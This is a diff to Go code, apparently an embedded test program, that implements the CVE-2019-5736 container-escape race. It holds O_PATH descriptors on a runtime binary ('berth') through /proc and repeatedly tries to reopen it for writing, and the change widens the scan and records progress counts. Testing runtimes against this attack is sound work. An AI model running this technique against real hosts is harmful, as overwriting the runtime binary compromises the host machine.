@@ -89,20 +89,28 @@ func main() {
 // exeRace is the CVE-2019-5736 attack: keep an O_PATH descriptor on the
 // executable of every process whose exe looks like the runtime, then,
 // until the stop file appears, try to reopen each for writing and write.
-// It prints how far it got to the result file.
+// It records how far it got in the result file at once and after every
+// change, since the container may be torn down under it.
 func exeRace(stop, result string) {
 	self := strconv.Itoa(os.Getpid())
 	held := map[string]int{}
 	seen, opened, written := 0, 0, 0
 	var last error
+	save := func() {
+		msg := fmt.Sprintf("seen=%d opened=%d written=%d last=%v\n", seen, opened, written, last)
+		os.WriteFile(result+".tmp", []byte(msg), 0o644)
+		os.Rename(result+".tmp", result)
+	}
+	save()
 	for {
 		if _, err := os.Stat(stop); err == nil {
 			break
 		}
+		before := [3]int{seen, opened, written}
 		ents, _ := os.ReadDir("/proc")
 		for _, e := range ents {
 			pid := e.Name()
-			if pid == self || pid == "1" || pid[0] < '0' || pid[0] > '9' {
+			if pid == self || pid[0] < '0' || pid[0] > '9' {
 				continue
 			}
 			if _, ok := held[pid]; ok {
@@ -116,16 +124,12 @@ func exeRace(stop, result string) {
 			target, _ := os.Readlink("/proc/self/fd/" + strconv.Itoa(fd))
 			if !strings.Contains(target, "berth") {
 				syscall.Close(fd)
-				held[pid] = -1
 				continue
 			}
 			seen++
 			held[pid] = fd
 		}
 		for _, fd := range held {
-			if fd < 0 {
-				continue
-			}
 			w, err := syscall.Open("/proc/self/fd/"+strconv.Itoa(fd), syscall.O_WRONLY|0x80000, 0)
 			if err != nil {
 				last = err
@@ -139,11 +143,12 @@ func exeRace(stop, result string) {
 			}
 			syscall.Close(w)
 		}
+		if before != [3]int{seen, opened, written} {
+			save()
+		}
 		time.Sleep(time.Millisecond)
 	}
-	msg := fmt.Sprintf("seen=%d opened=%d written=%d last=%v\n", seen, opened, written, last)
-	os.WriteFile(result+".tmp", []byte(msg), 0o644)
-	os.Rename(result+".tmp", result)
+	save()
 }
 `
 
